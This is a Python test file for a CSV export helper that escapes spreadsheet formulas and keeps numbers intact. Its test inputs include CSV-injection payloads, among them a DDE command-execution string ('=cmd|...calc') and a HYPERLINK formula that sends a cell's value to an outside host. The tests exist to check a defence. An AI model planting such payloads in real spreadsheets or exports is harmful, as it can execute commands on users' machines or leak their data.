"""CSV that can be opened in a spreadsheet: no formula, numbers as numbers, every text back as it was."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.text.csv_text import FORMULA, csv_row, exact_rows, text_cell

SIGNS = st.sampled_from("=+-@\t\r\n'\",; a1.e％＝＋") | st.characters(exclude_categories=["Cs"])
TEXTS = st.text(alphabet=SIGNS, max_size=12)


def _cells(text, **dialect):
    return next(iter(csv.reader(io.StringIO(text, newline=""), **dialect)))


@pytest.mark.parametrize(
    "formula",
    ['=1+1', '=HYPERLINK("https://a.example?"&A1)', "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "=", "-", "-5%", "+a", "＝1+1", "＠x",
     "-1e", "- 1", "+49 30 1234", "-1-1", "=cmd|' /C calc'!A0"],
)  # fmt: skip  # one list
def test_what_begins_as_a_formula_is_text(formula):
    assert text_cell(formula) == f"'{formula}"
    assert _cells(csv_row([formula]))[0] == f"'{formula}"


@pytest.mark.parametrize("number", ["-1", "-0.5", "+3", "1", "-1.25e-07", "-.5", "1E+9", Decimal("-12.30"), -4, -0.25])
def test_numbers_stay_numbers_and_no_value_is_an_empty_cell(number):
    assert csv_row([number]) == f"{number}\r\n"
    assert csv_row([None, "", number]) == f",,{number}\r\n"
    assert csv_row([None]) == '""\r\n'


@given(st.lists(TEXTS, min_size=1, max_size=4))
def test_every_text_comes_back_and_none_is_a_formula(texts):
    cells = _cells(csv_row(texts))
    assert cells == [text_cell(text) for text in texts]
    assert [cell.removeprefix("'") if cell != text else cell for cell, text in zip(cells, texts, strict=True)] == texts


@given(st.lists(TEXTS, min_size=1, max_size=4), st.sampled_from(";\t,"))
def test_no_other_separator_makes_a_formula_of_a_part_of_a_text(texts, separator):
    """A spreadsheet of a country with decimal commas splits at semicolons."""
    for cell in _cells(csv_row(texts[:1]), delimiter=separator):
        assert not cell.startswith(FORMULA) or cell == text_cell(cell)


@given(st.lists(st.lists(TEXTS, min_size=2, max_size=3), max_size=4))
def test_exact_rows_are_exact(rows):
    assert list(csv.reader(io.StringIO(exact_rows(rows), newline=""))) == rows
